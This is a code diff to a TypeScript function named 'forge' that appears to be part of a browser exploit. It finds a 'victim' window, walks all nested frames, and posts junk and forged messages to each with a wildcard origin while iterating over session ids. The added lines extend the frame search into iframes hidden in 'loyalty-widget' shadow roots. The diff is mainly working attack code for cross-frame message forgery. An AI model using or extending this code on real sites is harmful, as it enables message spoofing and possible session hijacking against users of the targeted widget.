@@ -34,8 +34,18 @@ export const forge = async (_: unknown, sids: string[]): Promise<(string | undef
     rpc('lw.update', { locale: 'ar', dir: 'rtl' }),
   ]
   const root = window.victim ?? (opener as Window | null) ?? window.top
+  /** Frames in a shadow are not counted; whoever is of the page's own origin finds them all the same. */
+  const inShadow = (at: Window): Window[] => {
+    try {
+      return [...at.document.querySelectorAll('loyalty-widget')].flatMap(
+        (each) => each.shadowRoot?.querySelector('iframe')?.contentWindow ?? [],
+      )
+    } catch {
+      return []
+    }
+  }
   const below = (at: Window): Window[] =>
-    Array.from({ length: at.length }, (_, index) => at[index] as Window).flatMap((each) => [each, ...below(each)])
+    [...Array.from({ length: at.length }, (_, index) => at[index] as Window), ...inShadow(at)].flatMap((each) => [each, ...below(each)])
   for (const target of root ? [root, ...below(root)].filter((each) => each !== window) : []) {
     for (const message of [...junk, ...forged]) target.postMessage(message, '*')
     for (const sid of sids) {
